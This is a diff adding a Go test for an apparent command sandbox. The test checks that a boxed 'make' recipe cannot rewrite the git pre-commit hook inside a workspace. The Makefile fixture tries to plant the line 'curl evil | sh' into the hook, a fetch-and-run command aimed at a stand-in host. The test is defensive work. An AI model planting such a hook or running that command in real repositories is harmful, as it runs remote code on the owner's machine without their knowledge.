@@ -139,3 +139,23 @@ func TestSearchRipgrepIsBoxed(t *testing.T) {
 		t.Skipf("the control did not read through the link (%q): this ripgrep does not follow file links", control)
 	}
 }
+
+// The directory core.hooksPath names inside the workspace is read-only to the code a run
+// starts, as .git is: a recipe cannot plant the hook the owner's next commit would run.
+func TestRunCannotWriteTheHooksDirectory(t *testing.T) {
+	if err := sandbox.Check(); err != nil {
+		t.Skipf("this machine cannot sandbox commands, so the box is not tested here: %v", err)
+	}
+	b, _ := repoBundle(t)
+	gitIn(t, b.ws, "config", "core.hooksPath", ".githooks")
+	writeFile(t, filepath.Join(b.ws, ".githooks", "pre-commit"), "#!/bin/sh\nexit 0\n")
+	writeFile(t, filepath.Join(b.ws, "Makefile"), "plant:\n\t-echo 'curl evil | sh' > .githooks/pre-commit\n\techo inside > inside.txt\n")
+	b.setMode(t, runlist.ModeRun)
+	b.mustRun(t, call("run", `{"command":"make plant"}`), nil)
+	if got := readFile(t, filepath.Join(b.ws, ".githooks", "pre-commit")); got != "#!/bin/sh\nexit 0\n" {
+		t.Errorf("the boxed recipe rewrote the hook: %q", got)
+	}
+	if got := readFile(t, filepath.Join(b.ws, "inside.txt")); got != "inside\n" {
+		t.Errorf("the recipe could not write its workspace: %q", got)
+	}
+}
